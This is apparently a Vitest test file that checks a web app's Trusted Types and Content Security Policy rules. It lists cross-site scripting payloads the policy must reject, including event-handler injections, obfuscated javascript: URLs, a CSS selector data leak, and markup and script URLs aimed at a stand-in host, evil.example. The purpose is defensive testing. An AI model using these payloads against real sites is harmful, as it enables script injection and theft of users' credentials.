// @vitest-environment jsdom
import { readFileSync } from 'node:fs';
import { expect, it, vi } from 'vitest';

type Rule = (text: string, type: string, sink: string) => string | null;
type Policy = Record<'createHTML' | 'createScriptURL', Rule>;

const deployed = readFileSync(`${import.meta.dirname}/../../../firebase.json`, 'utf8');

/** The default policy that the app creates. */
const policy = await (async () => {
  const policies: Record<string, Policy> = {};
  const createPolicy = (name: string, rules: Policy) => (policies[name] = rules);
  vi.stubGlobal('trustedTypes', { createPolicy });
  await import('./trusted-types.ts');
  return policies.default as Policy;
})();
const markup = (text: string, sink = 'Element innerHTML') => policy.createHTML(text, 'TrustedHTML', sink);
const address = (text: string) =>
  policy.createScriptURL(text, 'TrustedScriptURL', 'HTMLScriptElement src') === text;

it('every Content Security Policy that allows scripts requires Trusted Types', () => {
  const policies = [...deployed.matchAll(/"(default-src 'self';[^"]*)"/g)].map(([, text]) => text);
  expect(policies).toHaveLength(2);
  for (const text of policies) expect(text).toContain("; require-trusted-types-for 'script';");
});

it.each([
  '<img src=x onerror=alert(1)>',
  '<img src="x"/ONERROR=alert(1)>',
  '<p title=">" onclick="alert(1)">',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<SCRIPT src="https://evil.example/a.js"></SCRIPT>',
  '<style>input[value^=a]{background:url(/leak)}</style>',
  '<link rel="stylesheet" href="//evil.example/a.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="a.swf"></object>',
  '<embed src="a.swf">',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" Java&#9;Script&#10;:alert(1)">a</a>',
  '<iframe src="&#1;javascript:alert(1)"></iframe>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
])('the Trusted Types policy rejects this markup: %s', (text) => {
  expect(markup(text)).toBeNull();
});

it.each([
  'on = 1; onclick = javascript:alert(1)',
  '<p>Seen <em>once</em> = never, &lt;script&gt; and all</p>',
  '<figure><img src="/media/a.jpg" alt="JavaScript: the good parts" style="--tone: #123"></figure>',
  '<iframe src="https://www.youtube-nocookie.com/embed/a" loading="lazy"></iframe>',
  '<a href="https://example.org/?q=javascript:">a</a>',
  '<tr><td>One cell</td></tr>',
  '<div class="bar" role="bar"><div class="peg"></div></div>',
])('the Trusted Types policy allows this markup: %s', (text) => {
  expect(markup(text)).toBe(text);
});

it('DOMParser accepts any markup, because nothing runs in its document', () => {
  const pasted = '<style>p{}</style><p onclick="a()">a</p>';
  expect(markup(pasted, 'DOMParser parseFromString')).toBe(pasted);
});

it('scripts load only from the site and the hosts that the Content Security Policy names', () => {
  const [, sources = ''] = /script-src ([^;]*)/.exec(deployed) ?? [];
  const named = sources.split(' ').filter((source) => source.startsWith('http'));
  expect(named.length).toBeGreaterThan(5);
  for (const source of named)
    expect(address(`${source.replace('*', 'm-1')}${source.endsWith('/') ? 'a.js' : ''}?id=1`), source).toBe(
      true,
    );
  for (const own of ['/sw.js', '/assets/a.js', '/reports.js']) expect(address(own), own).toBe(true);
  for (const other of [
    'https://evil.example/a.js',
    '//evil.example/a.js',
    'https://js.stripe.com.evil.example/v3',
    'https://evil-js.stripe.com/v3',
    'http://js.stripe.com/v3',
    'https://sites.google.com/recaptcha/api.js',
    'https://www.google.com/search.js',
    'https://www.google.com/recaptcha/api.jsonp',
    'https://accounts.google.com/o/oauth2/revoke?callback=alert',
    'https://www.gstatic.com/other/a.js',
    'https://www.googletagmanager.com/gtm.js?id=GTM-1',
    'https://riffhall.example@evil.example/a.js',
    'http://riffhall.example:8080/a.js',
    'data:text/javascript,alert(1)',
    'blob:https://riffhall.example/1',
    'javascript:alert(1)',
  ])
    expect(address(other), other).toBe(false);
});

it('the Trusted Types policy never turns text into a script', () => {
  expect(Object.keys(policy)).toEqual(['createHTML', 'createScriptURL']);
});
